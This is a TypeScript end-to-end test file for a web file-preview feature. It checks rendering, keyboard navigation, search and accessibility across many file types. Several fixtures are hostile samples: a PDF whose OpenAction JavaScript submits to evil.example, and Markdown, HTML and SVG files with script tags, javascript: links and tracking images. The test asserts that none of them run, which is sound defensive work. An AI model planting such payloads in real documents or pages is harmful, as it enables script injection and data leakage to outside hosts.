// @module-tag long
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { askAxe } from "./harness/axe.ts";
import { closeBrowser, openAs, type Opened } from "./harness/browser.ts";
import { type Product, startProduct } from "./harness/product.ts";

let product: Product;
let page: Opened;

const fixture = (name: string) => readFileSync(path.resolve(import.meta.dirname, "../fixtures/files", name));
const archive = execFileSync("python3", [
  "-c",
  "import io,sys,zipfile\nb=io.BytesIO()\nz=zipfile.ZipFile(b,'w')\nz.writestr('plans/ground floor.txt','x'*900)\nz.writestr('read me.txt','hi')\nz.close()\nsys.stdout.buffer.write(b.getvalue())",
]);
/** Opens a window, asks another server and runs a script, if anything lets it. */
const hostilePdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/AA<</O<</S/URI/URI(http://evil.example/)>>>>>>endobj
4 0 obj<</Length 46>>stream
BT /F 20 Tf 40 100 Td (Nothing of it ran) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>`;

const files: readonly (readonly [name: string, type: string, content: Buffer | string])[] = [
  ["01 chart.heic", "image/heic", fixture("chart.heic")],
  ["02 talk.pdf", "application/pdf", fixture("talk.pdf")],
  ["03 letter.docx", "application/octet-stream", fixture("letter.docx")],
  ["04 prices.csv", "text/csv", `name;price\n"Nail; long";1,20\n${"Screw;0,30\n".repeat(3000)}`],
  [
    "05 notes.md",
    "text/markdown",
    "# Notes\n\n- **one**\n- [two](javascript:alert(1))\n\n<script>document.title='run'</script>\n\n![spy](http://evil.example/a.png)\n",
  ],
  ["06 page.html", "text/html", "<script>document.title = 'run'</script>\n<img src=http://evil.example/b.png>\n"],
  ["07 plans.zip", "application/zip", archive],
  [
    "08 walk.ics",
    "text/calendar",
    "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Walk in the park\r\nDTSTART:20260504T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
  ],
  [
    "09 offer.eml",
    "message/rfc822",
    "From: Jonas <jonas@brandt.example>\r\nTo: maren@x.example\r\nSubject: The offer\r\n\r\nAs promised.\r\n",
  ],
  ["10 film.webm", "video/webm", fixture("film.webm")],
  ["11 hostile.pdf", "application/pdf", hostilePdf],
  [
    "12 hostile.svg",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>document.title="run"</script><image href="http://evil.example/c.png"/><rect width="40" height="40" fill="red"/></svg>`,
  ],
  ["13 broken.pdf", "application/pdf", "%PDF-1.7 and nothing more"],
  ["14 tool.exe", "application/octet-stream", Buffer.from([0, 1, 2, 3])],
];

beforeAll(async () => {
  product = await startProduct();
  page = await openAs(product, await product.account("maren"));
  await page.goto(`${product.url}/files`);
  await page.getByText("Nothing is here yet.").waitFor();
  await page
    .locator('input[type="file"]')
    .first()
    .setInputFiles(files.map(([name, mimeType, content]) => ({ name, mimeType, buffer: Buffer.from(content) })));
  await page.locator("[data-row]", { hasText: "14 tool.exe" }).waitFor({ timeout: 20_000 });
});
afterAll(async () => {
  await closeBrowser();
  await product.remove();
});

const dialog = () => page.getByRole("dialog");
const until = (claim: () => Promise<unknown>, value: unknown, timeout = 10_000) =>
  expect.poll(claim, { timeout, interval: 50 }).toEqual(value);
const title = () => dialog().getByRole("heading").first().textContent();
async function open(name: string): Promise<void> {
  await page.keyboard.press("ArrowRight");
  await until(title, name);
}
/** Opens a file, goes on to the others by the arrow key, and comes back to where it was. */
test("a picture that a browser does not draw is drawn by the server, zoomed, turned, and left again", async () => {
  await page.locator("[data-row]", { hasText: "01 chart.heic" }).getByRole("link").dblclick();
  await until(title, "01 chart.heic");
  const picture = dialog().locator("img");
  await picture.waitFor({ timeout: 20_000 });
  await until(() => picture.evaluate((node) => Reflect.get(node, "naturalWidth") > 60), true);
  expect(new URL(page.url()).searchParams.get("open")).toMatch(/^[0-9a-f-]{36}$/);
  await page.keyboard.press("+");
  await page.keyboard.press("r");
  await until(() => picture.getAttribute("style").then((style) => style?.includes("rotate(90deg)")), true);
  expect(await askAxe(page)).toEqual([]);
  await page.keyboard.press("Escape");
  await until(() => dialog().count(), 0);
  expect(await page.evaluate("document.activeElement.textContent")).toContain("01 chart.heic");
  await page.keyboard.press("Enter");
  await until(title, "01 chart.heic");
});

test("pages of a PDF are drawn, chosen as text, searched and gone to by the small ones", async () => {
  await open("02 talk.pdf");
  await dialog().locator("[data-page] canvas").first().waitFor({ timeout: 20_000 });
  expect(await dialog().locator("nav[aria-label=Pages] button").count()).toBeGreaterThan(1);
  const text = await dialog().locator(".pdf-text").first().textContent();
  const word = /\p{L}{4,}/u.exec(text ?? "")?.[0] ?? "";
  await page.keyboard.press("/");
  await dialog().getByRole("searchbox").fill(word.toUpperCase());
  await dialog()
    .getByRole("status")
    .getByText(/^1 of \d/)
    .waitFor();
  await until(() => page.evaluate("CSS.highlights.get('preview-here')?.size ?? 0"), 1);
  expect(await askAxe(page)).toEqual([]);
  await page.keyboard.press("Escape");
  await dialog().getByRole("button", { name: "Page 2" }).click();
  await dialog()
    .getByText(/^2 of \d+$/)
    .first()
    .waitFor();
});

test("office files, tables, Markdown, code, archives, appointments, mail and films are shown", async () => {
  await open("03 letter.docx");
  await dialog().locator("[data-page] canvas").first().waitFor({ timeout: 40_000 });
  await open("04 prices.csv");
  await dialog().getByRole("cell", { name: "Nail; long" }).waitFor();
  await open("05 notes.md");
  await dialog().getByRole("heading", { name: "Notes", exact: true }).waitFor();
  expect(await dialog().getByRole("link", { name: "two" }).count()).toBe(0);
  await open("06 page.html");
  await dialog().getByText("document.title", { exact: false }).first().waitFor();
  await open("07 plans.zip");
  await dialog().getByText("ground floor.txt").waitFor({ timeout: 20_000 });
  await open("08 walk.ics");
  await dialog().getByText("Walk in the park").waitFor();
  await open("09 offer.eml");
  await dialog().frameLocator("iframe").getByText("As promised.").waitFor();
  expect(await askAxe(page)).toEqual([]);
  await open("10 film.webm");
  await until(
    () =>
      dialog()
        .locator("video")
        .evaluate((node) => Number(Reflect.get(node, "duration")) > 0),
    true,
  );
});

test("what would run or ask other servers does neither, and what cannot be shown says so", async () => {
  await page.keyboard.press("Escape");
  await page.locator("[data-row]", { hasText: "11 hostile.pdf" }).getByRole("link").dblclick();
  await dialog().locator(".pdf-text").getByText("Nothing of it ran").waitFor({ timeout: 20_000 });
  await open("12 hostile.svg");
  await dialog().locator("img").waitFor({ timeout: 20_000 });
  await open("13 broken.pdf");
  await dialog().getByText("It may be damaged.").waitFor();
  await open("14 tool.exe");
  await dialog().getByText("Files of this kind cannot be shown here.").waitFor();
  await dialog().getByRole("link", { name: "Download" }).last().waitFor();
  expect(await page.title()).not.toContain("run");
  expect(page.faults).toEqual([]);
  await page.reload();
  await until(title, "14 tool.exe");
  await until(() => page.evaluate("document.activeElement.closest('[role=dialog]') !== null"), true);
});

test("files are shown as pictures, gone through by the keys, and found by their words", async () => {
  await page.keyboard.press("Escape");
  await until(() => dialog().count(), 0);
  await page.getByRole("button", { name: "Show as grid" }).click();
  const tile = (name: string) => page.locator("[data-row]", { hasText: name });
  await until(() => tile("02 talk.pdf").locator("img").count(), 1, 20_000);
  await tile("01 chart.heic").getByRole("link").click();
  await page.keyboard.press("ArrowRight");
  await until(() => page.evaluate("document.activeElement.textContent"), "02 talk.pdf");
  await page.keyboard.press("Enter");
  await until(title, "02 talk.pdf");
  await page.keyboard.press("Escape");
  await until(() => dialog().count(), 0);
  expect(await askAxe(page)).toEqual([]);
  await page.getByRole("button", { name: "Show as list" }).click();
  await page.getByRole("searchbox", { name: /^Search files/ }).fill("tiles winter");
  await until(() => page.locator("[data-row] a").allTextContents(), ["03 letter.docx"], 20_000);
  await page.getByText("to be replaced before the winter").waitFor();
  await page.getByRole("searchbox", { name: /^Search files/ }).fill("plan");
  await until(() => page.locator("[data-row] a").allTextContents(), ["07 plans.zip"]);
  await page.getByRole("button", { name: "Type" }).click();
  await page.getByRole("menuitemcheckbox", { name: "PDF" }).click();
  await page.getByText("Nothing is found for “plan type:pdf”.").waitFor();
  await page.getByRole("button", { name: "PDF" }).click();
  await page.getByRole("menuitemcheckbox", { name: "Archives" }).click();
  await until(() => page.locator("[data-row] a").allTextContents(), ["07 plans.zip"]);
  expect(page.url()).toContain("type%3Aarchive");
  expect(await askAxe(page)).toEqual([]);
  // A browser says of itself that there is no picture of the broken one.
  expect(page.faults.filter((fault) => !fault.includes("404"))).toEqual([]);
});
